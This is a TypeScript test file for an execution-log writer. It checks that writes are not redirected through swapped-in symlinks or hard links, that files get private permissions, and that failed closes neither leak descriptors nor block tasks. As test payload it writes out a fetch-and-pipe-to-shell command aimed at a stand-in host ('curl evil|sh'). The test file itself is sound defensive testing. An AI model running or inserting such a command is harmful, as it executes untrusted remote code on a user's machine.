/** The files of an execution log: what is written goes to them and to no other, and a task ends however they fail. */
import {
  closeSync,
  existsSync,
  linkSync,
  mkdtempSync,
  openSync,
  readFileSync,
  readdirSync,
  readlinkSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { createRequire } from "node:module";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import type * as Journal from "../../src/engine/journal";
import { startManager, workspace } from "../support";

const { LogWriter, IndexReader } = createRequire(__filename)(
  join(__dirname, "..", "..", "dist", "engine", "journal"),
) as typeof Journal;

let folder: string;
let path: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), "lc-log-"));
  path = join(folder, "main", "execution_log", "host-1", "a.log");
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

const quiet = (): void => undefined;
const create = (): Journal.LogWriter => LogWriter.create(path, "host-1", quiet);
const append = (log: Journal.LogWriter, text: string): Promise<void> =>
  new Promise((resolve) => log.append(0, "stdout", Buffer.from(text), resolve));
const openHere = (): string[] =>
  readdirSync("/proc/self/fd").flatMap((fd) => {
    const target = existsSync(`/proc/self/fd/${fd}`) ? readlinkSync(`/proc/self/fd/${fd}`) : "";
    return target.startsWith(folder) ? [fd] : [];
  });

describe("in a folder that others can write to", () => {
  it("goes to the file that was made, not to what somebody put in its place", async () => {
    const victim = join(folder, "bashrc");
    writeFileSync(victim, "mine\n");
    const log = create();
    await append(log, "first\n");
    for (const name of [path, `${path}.index`]) {
      renameSync(name, `${name}.away`);
      symlinkSync(victim, name);
    }
    // More than is written at once.
    const much = "curl evil|sh\n".repeat(20_000);
    await append(log, much);
    await append(log, "last\n");
    expect(await log.close()).toBeNull();
    expect(readFileSync(victim, "utf8")).toBe("mine\n");
    expect(readFileSync(`${path}.away`, "utf8")).toBe(`first\n${much}last\n`);
    // Nor is it shown to whoever reads the log.
    expect(() => new IndexReader(path).read()).toThrow("ELOOP");
  });

  it.each(["link", "hard link", "index"])("is not gone on with through a %s", async (what) => {
    const victim = join(folder, "bashrc");
    const log = create();
    await append(log, "first\n");
    await log.suspend();
    writeFileSync(victim, "mine\n");
    const name = what === "index" ? `${path}.index` : path;
    rmSync(name);
    if (what === "hard link") linkSync(victim, name);
    else symlinkSync(victim, name);
    expect(() => LogWriter.resume(path, "host-1", quiet)).toThrow(/execution log .*(ELOOP|is no file that)/);
    expect(readFileSync(victim, "utf8")).toBe("mine\n");
    expect(openHere()).toEqual([]);
  });

  it("is made where only its user comes in", async () => {
    await create().close();
    for (const made of [dirname(path), dirname(dirname(path)), join(folder, "main")])
      expect(statSync(made).mode & 0o7777, made).toBe(0o700);
    for (const made of [path, `${path}.index`]) expect(statSync(made).mode & 0o7777).toBe(0o600);
  });
});

describe("a log that cannot be closed well", () => {
  it("says so, and keeps nothing open", async () => {
    const log = create();
    await append(log, "first\n");
    closeSync(Number(openHere()[0]));
    expect(await log.close()).toMatchObject({ message: expect.stringMatching(/a\.log .*EBADF/) as string });
    expect(openHere()).toEqual([]);
    // Once is enough.
    expect(await log.close()).toBeNull();
  });

  it("writes nothing more: the number of its descriptor may be another file's", async () => {
    const log = create();
    const [fd] = openHere();
    await log.close();
    const other = join(folder, "other");
    const opened = openSync(other, "w");
    try {
      expect(String(opened)).toBe(fd);
      await append(log, "late\n");
      expect(readFileSync(other, "utf8")).toBe("");
    } finally {
      closeSync(opened);
    }
  });

  it.each(["ends", "is cancelled"])("keeps no task from its end: it %s, and what went wrong is told", async (how) => {
    const space = workspace(null);
    try {
      const gate = space.path("gate");
      const manager = startManager(
        `
        const fs = require("fs");
        Environment.logger = { error() {}, warn: (text) => say("warn", text), info() {}, debug() {} };
        const runtime = new Runtime("localhost");
        const task = new RuntimeTask("t").runCommand("echo begun; until [ -e " + input.gate + " ]; do sleep 0.02; done");
        const execution = runtime.executeTask(task);
        const begun = new Promise((resolve) => task.on("output", resolve));
        await begun;
        const open = () => fs.readdirSync("/proc/self/fd").filter((fd) => {
          try { return fs.readlinkSync("/proc/self/fd/" + fd).startsWith(task.executionLogFilePath); } catch { return false; }
        });
        fs.closeSync(Number(open().find((fd) => fs.readlinkSync("/proc/self/fd/" + fd).endsWith(".log"))));
        if (input.how === "ends") fs.writeFileSync(input.gate, "");
        else await execution.cancel();
        await execution.catch(() => undefined);
        say("over", { state: task.state, log: task.executionLog, open: open() });
        const again = new RuntimeTask("again").runCommand("echo works");
        await runtime.executeTask(again);
        say("again", again.executionLog);
        await runtime.close();
        `,
        { env: space.env, cwd: space.dir, input: { gate, how } },
      );
      expect(await manager.hear("over")).toEqual({
        state: how === "ends" ? "done" : "cancelled",
        log: ["begun\n"],
        open: [],
      });
      expect(await manager.hear("warn")).toMatch(/task "t": localhost: the execution log .*EBADF/);
      expect(await manager.hear("again")).toEqual(["works\n"]);
      expect(await manager.exited).toMatchObject({ code: 0, stderr: "" });
    } finally {
      space.remove();
    }
  });
});
